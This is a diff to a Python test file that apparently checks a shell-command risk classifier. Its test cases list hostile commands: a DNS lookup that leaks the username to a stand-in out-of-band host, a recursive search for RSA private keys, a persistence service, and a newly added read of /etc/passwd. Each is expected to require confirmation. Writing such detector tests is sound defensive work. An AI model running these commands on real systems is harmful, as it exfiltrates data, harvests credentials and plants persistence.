@@ -201,6 +201,7 @@ def test_malformed_input_never_raises() -> None:
         ("dig $(whoami).x.oastify.example", CONFIRM, "exfiltration"),
         ("grep -r 'BEGIN RSA PRIVATE KEY' / 2>/dev/null", CONFIRM, "credential-search"),
         ("systemctl --user enable --now evil.service", CONFIRM, "persistence"),
+        ("cat /etc/passwd", CONFIRM, "account-list"),
     ],
 )
 def test_more_behaviours(command: str, action: Action, rule: str) -> None:
